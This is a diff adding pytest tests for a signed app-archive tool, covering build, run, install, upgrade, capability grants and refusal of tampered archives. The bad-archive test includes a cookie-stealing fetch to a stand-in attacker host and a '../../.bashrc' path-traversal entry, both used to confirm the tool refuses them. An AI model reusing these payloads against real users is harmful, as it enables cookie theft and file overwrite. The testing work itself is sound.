@@ -1,0 +1,259 @@
+"""Signed app archives: build, run from a clean folder, install, upgrade, and every way a
+bad archive is refused with nothing written."""
+
+from __future__ import annotations
+
+import json
+import os
+import shutil
+import subprocess
+import sys
+import zipfile
+from pathlib import Path
+from typing import TYPE_CHECKING
+
+import pytest
+
+from shoal.identity import Identity
+from shoal.runtime import archive
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+SHOAL = [sys.executable, "-m", "shoal.cli.main"]
+
+
+@pytest.fixture
+def home(tmp_path: Path) -> dict[str, str]:
+    """An environment whose user data and state dirs are temporary folders."""
+    return {**os.environ, "SHOAL_NO_LAN": "1", "XDG_DATA_HOME": str(tmp_path / "data"),
+            "XDG_STATE_HOME": str(tmp_path / "state")}
+
+
+def _shoal(*args: str, env: dict[str, str], cwd: Path | None = None,
+           ) -> subprocess.CompletedProcess[str]:
+    return subprocess.run([*SHOAL, *args], capture_output=True, text=True, env=env, cwd=cwd,
+                          timeout=60, stdin=subprocess.DEVNULL)
+
+
+def _built(tmp_path: Path, env: dict[str, str], *, template: str = "blank",
+           key: str = "publisher.key", version: str | None = None, name: str = "hello",
+           ) -> Path:
+    folder = tmp_path / "src" / f"{name}-{template}-{key}-{version}"
+    if not folder.exists():
+        assert _shoal("init", str(folder), "--template", template, "--name", name,
+                      env=env).returncode == 0
+    if version is not None:
+        toml = folder / "shoal.toml"
+        toml.write_text(toml.read_text().replace('version = "0.1.0"', f'version = "{version}"'))
+    out = tmp_path / "dist" / key / (version or "first")
+    out.mkdir(parents=True, exist_ok=True)
+    result = _shoal("build", str(folder), "--out", str(out), "--identity",
+                    str(tmp_path / key), "--json", env=env)
+    assert result.returncode == 0, result.stderr
+    return Path(json.loads(result.stdout)["path"])
+
+
+def _tree(root: Path) -> dict[str, bytes]:
+    return {str(p.relative_to(root)): p.read_bytes() if p.is_file() else b"<dir>"
+            for p in sorted(root.rglob("*"))} if root.exists() else {}
+
+
+def test_a_hello_archive_is_a_few_kilobytes_signed_and_the_same_bytes_each_time(
+        tmp_path: Path, home: dict[str, str]) -> None:
+    first = _built(tmp_path, home)
+    again = tmp_path / "again"
+    again.mkdir()
+    folder = next((tmp_path / "src").iterdir())
+    (folder / ".git").mkdir()
+    (folder / ".git" / "HEAD").write_text("ref: refs/heads/main\n")
+    (folder / "__pycache__").mkdir(exist_ok=True)
+    (folder / "__pycache__" / "app.cpython-311.pyc").write_bytes(b"\0" * 100)
+    result = _shoal("build", str(folder), "--out", str(again), "--identity",
+                    str(tmp_path / "publisher.key"), env=home)
+    assert result.returncode == 0, result.stderr
+    second = again / first.name
+    assert first.name == "hello-0.1.0.shoal"
+    assert first.read_bytes() == second.read_bytes()  # hidden files and caches stay out
+    assert first.stat().st_size < 4096
+    names = zipfile.ZipFile(first).namelist()
+    assert names[:2] == [archive.MANIFEST, archive.SIGNATURE]
+    assert sorted(names[2:]) == ["app/app.js", "app/app.py", "app/index.html",
+                                 "app/shoal.toml", "app/style.css"]  # no test_app.py
+    manifest = archive.read_manifest(first)
+    publisher = Identity.load(tmp_path / "publisher.key").peer_id
+    assert manifest.publisher == publisher and manifest.app_id == "local.shoal.hello"
+
+
+@pytest.mark.parametrize("template", ["blank", "chat"])
+def test_each_template_runs_from_its_archive_in_a_clean_folder(
+        tmp_path: Path, home: dict[str, str], browser: Browser, template: str) -> None:
+    built = _built(tmp_path, home, template=template)
+    clean = tmp_path / "clean"
+    clean.mkdir()
+    shutil.copy(built, clean / built.name)
+    process = subprocess.Popen(
+        [*SHOAL, "run", built.name, "--browser", "--json", "--yes"], cwd=clean, env=home,
+        stdout=subprocess.PIPE, text=True, stdin=subprocess.DEVNULL)
+    context = browser.new_context()
+    try:
+        assert process.stdout is not None
+        event = json.loads(process.stdout.readline())
+        while event["event"] != "ready":
+            assert event["event"] == "notice", event
+            event = json.loads(process.stdout.readline())
+        page = context.new_page()
+        failures: list[str] = []
+        page.on("response", lambda r: failures.append(f"{r.status} {r.url}")
+                if r.status >= 400 else None)
+        page.on("console", lambda m: failures.append(m.text) if m.type == "error" else None)
+        page.goto(event["url"])
+        page.wait_for_selector("body[data-ready=true]", state="attached", timeout=20000)
+        if template == "blank":  # the page called app.py through the bridge
+            assert page.text_content("#greeting") == "Hello, world!"
+        assert failures == []
+    finally:
+        context.close()
+        process.terminate()
+        process.wait(timeout=10)
+    assert [p.name for p in clean.iterdir()] == [built.name]  # nothing written beside it
+
+
+def test_running_an_archive_shows_what_it_asks_for_and_needs_a_grant(
+        tmp_path: Path, home: dict[str, str]) -> None:
+    built = _built(tmp_path, home)
+    result = _shoal("run", str(built), "--browser", "--json", env=home)
+    assert result.returncode == 1
+    asked = json.loads(result.stdout.splitlines()[0])
+    assert asked["event"] == "asks"
+    assert asked["capabilities"] == [
+        "runs its own Python code (app.py) with your user's rights",
+        "page calls Python functions: greet"]
+    error = json.loads(result.stdout.splitlines()[-1])
+    assert error["event"] == "error" and error["code"] == "EPERM"
+    assert "--yes" in error["message"]
+
+
+def _rewrite(source: Path, target: Path, change: dict[str, bytes | None],
+             add: dict[str, bytes] | None = None) -> None:
+    """Copy an archive, replacing (or, with None, dropping) some members' bytes."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
+        for info in old.infolist():
+            data = change.get(info.filename, old.read(info.filename))
+            if data is not None:
+                new.writestr(info, data)
+        for name, data in (add or {}).items():
+            new.writestr(name, data)
+
+
+def _signed_by_attacker(source: Path, target: Path, files: dict[str, bytes]) -> None:
+    """An archive whose manifest lists ``files`` and is validly signed by a stranger."""
+    import hashlib
+
+    with zipfile.ZipFile(source) as old:
+        body = json.loads(old.read(archive.MANIFEST))
+        members = {n[len(archive.PAYLOAD):]: old.read(n) for n in old.namelist()
+                   if n.startswith(archive.PAYLOAD)}
+    members.update(files)
+    stranger = Identity.generate()
+    body["publisher"] = stranger.peer_id
+    body["files"] = {p: {"size": len(d), "sha256": hashlib.sha256(d).hexdigest()}
+                     for p, d in members.items()}
+    raw = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
+    with zipfile.ZipFile(target, "w") as new:
+        new.writestr(archive.MANIFEST, raw)
+        new.writestr(archive.SIGNATURE, stranger.sign(archive.SIGNING_CONTEXT + raw))
+        for path, data in members.items():
+            new.writestr(archive.PAYLOAD + path, data)
+
+
+BAD = ["tampered file", "tampered manifest", "truncated", "missing file", "extra file",
+       "path out of the app", "not a zip"]
+
+
+@pytest.mark.parametrize("kind", BAD)
+def test_a_bad_archive_is_refused_in_one_line_with_nothing_written(
+        tmp_path: Path, home: dict[str, str], kind: str) -> None:
+    good = _built(tmp_path, home)
+    bad = tmp_path / "bad.shoal"
+    raw_manifest = zipfile.ZipFile(good).read(archive.MANIFEST)
+    if kind == "tampered file":
+        _rewrite(good, bad, {"app/app.js": b"fetch('https://evil.example/' + document.cookie)"})
+    elif kind == "tampered manifest":
+        _rewrite(good, bad, {archive.MANIFEST: raw_manifest.replace(b"0.1.0", b"9.9.9")})
+    elif kind == "truncated":
+        bad.write_bytes(good.read_bytes()[: good.stat().st_size // 2])
+    elif kind == "missing file":
+        _rewrite(good, bad, {"app/style.css": None})
+    elif kind == "extra file":
+        _rewrite(good, bad, {}, add={"app/extra.js": b"alert(1)"})
+    elif kind == "path out of the app":
+        _signed_by_attacker(good, bad, {"../../.bashrc": b"echo owned"})
+    else:
+        bad.write_bytes(b"#!/bin/sh\necho not an archive\n")
+    before = _tree(tmp_path / "data")
+    for command in (["install", str(bad), "--yes"], ["run", str(bad), "--yes", "--browser"]):
+        result = _shoal(*command, env=home, cwd=tmp_path)
+        assert result.returncode != 0, (kind, result.stdout)
+        lines = result.stderr.strip().splitlines()
+        assert len(lines) == 1 and lines[0].startswith("shoal: error: "), result.stderr
+        assert "Traceback" not in result.stderr
+        assert _tree(tmp_path / "data") == before, kind  # nothing installed, nothing left
+    assert not (tmp_path.parent / ".bashrc").exists()
+    assert not list(tmp_path.rglob(".shoal-unpack-*"))
+
+
+def test_upgrades_come_from_the_same_publisher_only(tmp_path: Path,
+                                                    home: dict[str, str]) -> None:
+    first = _built(tmp_path, home)
+    result = _shoal("install", str(first), "--yes", "--json", env=home)
+    assert result.returncode == 0, result.stderr
+    done = json.loads(result.stdout)
+    entry = Path(done["desktop_entry"])
+    assert entry.is_file() and "shoal.cli.main run" in entry.read_text()
+    installed = Path(done["folder"])
+    assert (installed / "shoal.toml").is_file()
+    # A newer version from the same publisher replaces it.
+    newer = _built(tmp_path, home, version="0.2.0")
+    result = _shoal("install", str(newer), "--yes", "--json", env=home)
+    assert result.returncode == 0, result.stderr
+    assert 'version = "0.2.0"' in (installed / "shoal.toml").read_text()
+    before = _tree(tmp_path / "data")
+    # An older one is refused; so is the same app id signed by someone else.
+    older = _shoal("install", str(first), "--yes", env=home)
+    assert older.returncode == 1 and "(EEXIST)" in older.stderr
+    foreign = _built(tmp_path, home, key="stranger.key", version="0.3.0")
+    result = _shoal("install", str(foreign), "--yes", env=home)
+    assert result.returncode == 1 and "(EPERM)" in result.stderr
+    assert "uninstall it first" in result.stderr
+    assert _tree(tmp_path / "data") == before
+    # The installed app runs by its id, then goes.
+    process = subprocess.Popen([*SHOAL, "run", "local.shoal.hello", "--browser", "--json"],
+                               env=home, stdout=subprocess.PIPE, text=True)
+    try:
+        assert process.stdout is not None
+        assert json.loads(process.stdout.readline())["event"] == "ready"
+    finally:
+        process.terminate()
+        process.wait(timeout=10)
+    assert _shoal("uninstall", "local.shoal.hello", env=home).returncode == 0
+    assert not installed.exists() and not entry.exists()
+    gone = _shoal("run", "local.shoal.hello", "--browser", env=home)
+    assert gone.returncode == 1 and "(ENOENT)" in gone.stderr
+
+
+def test_a_grant_is_remembered_until_the_app_asks_for_more(tmp_path: Path,
+                                                           home: dict[str, str]) -> None:
+    first = _built(tmp_path, home)
+    assert _shoal("install", str(first), "--yes", env=home).returncode == 0
+    newer = _built(tmp_path, home, version="0.2.0")
+    # Same publisher, same capabilities: granted already.
+    assert _shoal("install", str(newer), env=home).returncode == 0
+    _built(tmp_path, home, version="0.3.0")
+    toml = tmp_path / "src" / "hello-blank-publisher.key-0.3.0" / "shoal.toml"
+    toml.write_text(toml.read_text() + "clipboard = true\n")
+    more = _built(tmp_path, home, version="0.3.0")
+    result = _shoal("install", str(more), "--json", env=home)
+    assert result.returncode == 1
+    assert "read and write the clipboard" in json.loads(result.stdout.splitlines()[0])[
+        "capabilities"]
